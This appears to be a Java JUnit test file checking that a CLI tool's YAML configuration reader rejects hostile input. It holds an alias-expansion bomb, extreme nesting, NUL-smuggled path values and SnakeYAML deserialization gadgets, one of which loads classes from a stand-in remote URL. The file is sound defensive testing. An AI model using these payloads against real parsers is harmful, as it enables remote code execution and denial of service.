package dev.tributary.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Invalid or malicious configuration files: each is a usage error with a message of one line. */
@Timeout(30)
class HostileConfigurationTest {
    @TempDir
    private Path folder;

    @BeforeEach
    void aShop() {
        Shop.create(folder.resolve("shop.db"))
                .session("s1", "u1", "2023-09-01", "10:00:00", "Email")
                .conversion("c1", "u1", "2023-09-01", "10:00:01", 10);
    }

    private Cli.Result runWith(byte[] configuration) throws IOException {
        Files.write(folder.resolve("tributary.yml"), configuration);
        return new Cli(folder).run("run", "--db", "shop.db", "--out", "out");
    }

    static Stream<Arguments> files() {
        return Stream.of(
                Arguments.of("a tab", "db: shop.db\nredistribution_parameter:\n\tcloser: 1\n", "line"),
                Arguments.of("a key twice", "db: shop.db\ndb: other.db\n", "line 2"),
                Arguments.of("an open bracket", "db: [shop.db\n", "line"),
                Arguments.of("a list", "- db\n- shop.db\n", "not a mapping"),
                Arguments.of("a plain text", "shop.db\n", "not a mapping"),
                Arguments.of("a key of an object", "? {a: 1}\n: shop.db\n", "tributary.yml"),
                Arguments.of("a control character", "db: sh\u0007op.db\n", "tributary.yml"),
                Arguments.of("aliases that double", doubling(), "tributary.yml"),
                Arguments.of("very deep", "db: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n", "tributary.yml"),
                Arguments.of("an anchor of itself", "db: &a [*a]\n", "tributary.yml"));
    }

    private static String doubling() {
        StringBuilder text = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int level = 1; level < 30; level++) {
            text.append("a%1$d: &a%1$d [%2$s]\n".formatted(level, ("*a" + (level - 1) + ", ").repeat(9)));
        }
        return text.append("db: *a29\n").toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("files")
    void aFileThatIsNoneIsToldWithItsPlace(String what, String text, String told) throws IOException {
        Cli.Result result = runWith(text.getBytes(StandardCharsets.UTF_8));
        assertThat(result.exitCode()).as(what + ": " + result.all()).isEqualTo(2);
        assertThat(result.err()).contains("error:", "tributary.yml", told);
        assertThat(result.err().lines()).as(what).hasSize(2).allMatch(line -> line.length() < 400);
        assertThat(folder.resolve("out")).doesNotExist();
    }

    /** The reader supports texts, numbers, lists and mappings; the type named by a tag is never created. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "db: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                "db: !!java.io.FileOutputStream [made.txt]",
                "!!dev.tributary.cli.Main {db: shop.db, nobody_knows: 1}"
            })
    void aTagMakesNothing(String text) throws IOException {
        Cli.Result result = runWith(text.getBytes(StandardCharsets.UTF_8));
        assertThat(result.exitCode()).as(result.all()).isEqualTo(2);
        assertThat(folder.resolve("made.txt")).doesNotExist();
        assertThat(result.err()).doesNotContain("Exception");
    }

    @Test
    void bytesThatAreNoTextAreRefused() throws IOException {
        Cli.Result result = runWith(new byte[] {'d', 'b', ':', ' ', (byte) 0xff, (byte) 0xfe, '\n'});
        assertThat(result.exitCode()).as(result.all()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRIBUTARY_MODEL", "TRIBUTARY_OUT", "TRIBUTARY_RESULTS", "IHC_API_KEY_FILE"})
    void aPathWithANulIsRefused(String variable) throws IOException {
        Files.writeString(folder.resolve(".env"), variable + "=a\0b\nTRIBUTARY_CONV_TYPE_ID=any\n");
        Cli.Result result = new Cli(folder).run("run", "--db", "shop.db");
        assertThat(result.exitCode()).as(result.all()).isEqualTo(2);
        assertThat(result.err()).contains("error:").doesNotContain("The program failed");
    }

    @Test
    void anEmptyFileSetsNothing() throws IOException {
        assertThat(runWith(new byte[0]).exitCode()).isZero();
        assertThat(runWith("# nothing\n".getBytes(StandardCharsets.UTF_8)).exitCode())
                .isZero();
    }
}
